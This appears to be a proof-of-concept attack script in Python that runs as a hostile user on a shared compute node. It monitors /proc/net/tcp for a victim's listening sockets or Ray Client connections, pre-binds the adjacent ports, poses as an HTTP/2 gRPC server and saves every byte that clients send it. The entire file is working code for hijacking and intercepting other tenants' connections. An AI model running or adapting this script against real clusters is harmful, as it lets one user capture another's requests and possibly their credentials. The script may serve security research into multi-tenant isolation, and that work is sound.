"""A hostile neighbour, run as another user inside a compute node's network namespace.

``python3 squatter.py VICTIM_UID OUT_DIR SECONDS MODE [PORT ...]`` binds the PORTs at once;
MODE ``watch``: it then watches /proc/net/tcp{,6} for every new listening socket of
VICTIM_UID and binds the ten ports after it (where it can), as soon as it appears;
``connection:N``: once a connection to local port N appears, it binds the ten ports from
23000 (where Ray Client's proxier starts each client's own server); ``hold``: nothing more. Each of
its listeners answers like an HTTP/2 server (its SETTINGS frame, then the ACK of the
client's) so that a gRPC client goes on to send its request headers, and records every
byte it receives in OUT_DIR/<port>-<n>.bin; OUT_DIR/log.jsonl says what it saw and did.
Standard library only (the node's own python3).
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time

SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # an empty HTTP/2 SETTINGS frame
SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NEXT_PORTS = 10


class Squatter:
    def __init__(self, victim: int, out: str) -> None:
        self.victim = victim
        self.out = out
        self.held: dict[int, socket.socket] = {}
        self.seen: set[int] = set()
        self.accepted = 0
        self.lock = threading.Lock()

    def note(self, **fields: object) -> None:
        fields["t"] = time.time()
        with self.lock, open(os.path.join(self.out, "log.jsonl"), "a") as log:
            log.write(json.dumps(fields) + "\n")

    def connected(self, port: int) -> bool:
        """An established connection to local port ``port`` (someone's Ray Client)."""
        for name in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                with open(name) as table:
                    rows = table.read().splitlines()[1:]
            except OSError:
                continue
            for line in rows:
                words = line.split()
                if len(words) > 3 and words[3] == "01" and int(words[1][-4:], 16) == port:
                    return True
        return False

    def victims_listeners(self) -> set[int]:
        ports = set()
        for name in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                with open(name) as table:
                    rows = table.read().splitlines()[1:]
            except OSError:
                continue
            for line in rows:
                words = line.split()
                if len(words) > 7 and words[3] == "0A" and int(words[7]) == self.victim:
                    ports.add(int(words[1].rsplit(":", 1)[1], 16))
        return ports

    def hold(self, port: int, after: int | None) -> None:
        if port in self.held or not 1024 <= port <= 65535:
            return
        sock = socket.socket()
        try:
            sock.bind(("", port))
            sock.listen(64)
        except OSError as exc:
            sock.close()
            self.note(what="bind_failed", port=port, error=exc.strerror)
            return
        self.held[port] = sock
        self.note(what="squatting", port=port, after=after)
        threading.Thread(target=self.serve, args=(sock, port), daemon=True).start()

    def serve(self, sock: socket.socket, port: int) -> None:
        while True:
            try:
                conn, peer = sock.accept()
            except OSError:
                return
            with self.lock:
                self.accepted += 1
                number = self.accepted
            args = (conn, peer, port, number)
            threading.Thread(target=self.record, args=args, daemon=True).start()

    def record(self, conn: socket.socket, peer: tuple, port: int, number: int) -> None:
        self.note(what="accepted", port=port, peer=f"{peer[0]}:{peer[1]}", n=number)
        received = b""
        acked = False
        conn.settimeout(120)
        try:
            conn.sendall(SETTINGS)
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                received += data
                with open(os.path.join(self.out, f"{port}-{number}.bin"), "ab") as out:
                    out.write(data)
                if not acked and received.startswith(PREFACE) and len(received) >= 33:
                    conn.sendall(SETTINGS_ACK)
                    acked = True
        except OSError:
            pass
        finally:
            conn.close()
            self.note(what="closed", port=port, n=number, bytes=len(received))

    def run(self, seconds: float, mode: str, ports: list[int]) -> None:
        for port in ports:
            self.hold(port, None)
        self.note(what=mode)
        print("watching", flush=True)
        deadline = time.monotonic() + seconds
        if mode.startswith("connection:"):
            self.on_connection(int(mode.split(":")[1]), deadline)
        while mode != "watch" and time.monotonic() < deadline:
            time.sleep(0.5)
        while time.monotonic() < deadline:
            for port in sorted(self.victims_listeners() - self.seen):
                self.seen.add(port)
                self.note(what="victim_listener", port=port)
                for following in range(port + 1, port + 1 + NEXT_PORTS):
                    self.hold(following, port)
            time.sleep(0.001)

    def on_connection(self, port: int, deadline: float) -> None:
        while time.monotonic() < deadline:
            if self.connected(port):
                self.note(what="connection_seen", port=port)
                for following in range(23000, 23010):
                    self.hold(following, port)
                return
            time.sleep(0.001)


if __name__ == "__main__":
    victim, out, seconds, mode = int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), sys.argv[4]
    Squatter(victim, out).run(seconds, mode, [int(port) for port in sys.argv[5:]])
